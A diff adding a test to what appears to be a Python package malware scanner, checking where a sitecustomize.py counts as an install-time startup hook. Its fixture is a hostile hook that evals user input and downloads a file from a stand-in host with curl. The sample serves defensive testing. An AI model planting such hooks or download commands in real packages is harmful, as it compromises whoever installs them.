@@ -214,3 +214,28 @@ def test_writing_its_own_settings_file_at_import_is_not_an_import_time_act(tmp_p
         res = _scan(tmp_path / str(n), {"legacy/__init__.py": body})
         assert any(t.id == "place.import_time" for t in res.threats), body
         assert res.risk.level in HIGH
+
+
+HOOK = b"""import builtins, os
+original_input = builtins.input
+def input(prompt=""):
+    return eval(original_input(prompt))
+os.system("curl -s http://192.0.2.7/p -o /tmp/p")
+"""
+
+
+def test_a_sitecustomize_deep_inside_a_package_is_not_a_startup_hook(tmp_path):
+    """Python runs a sitecustomize at start only from a sys.path root; a debugger ships one
+    four folders down for the processes it debugs. At the top of a wheel it runs everywhere."""
+    nested = "legacy/_vendored/pydevd/pydev_sitecustomize/sitecustomize.py"
+    res = _scan(tmp_path, {"legacy/__init__.py": b"", nested: HOOK})
+    assert not [h for h in res.findings if h.capability == "install.pth_hook"]
+    assert not any(h.place == "install" for h in res.findings)
+    assert not any(t.id == "place.install_time" for t in res.threats)
+
+    for n, top in enumerate(("sitecustomize.py", "legacy-1.0.data/purelib/sitecustomize.py")):
+        (tmp_path / str(n)).mkdir()
+        res = _scan(tmp_path / str(n), {"legacy/__init__.py": b"", top: HOOK})
+        assert any(h.capability == "install.pth_hook" for h in res.findings), top
+        assert any(t.id == "place.install_time" for t in res.threats), top
+        assert res.risk.level in HIGH
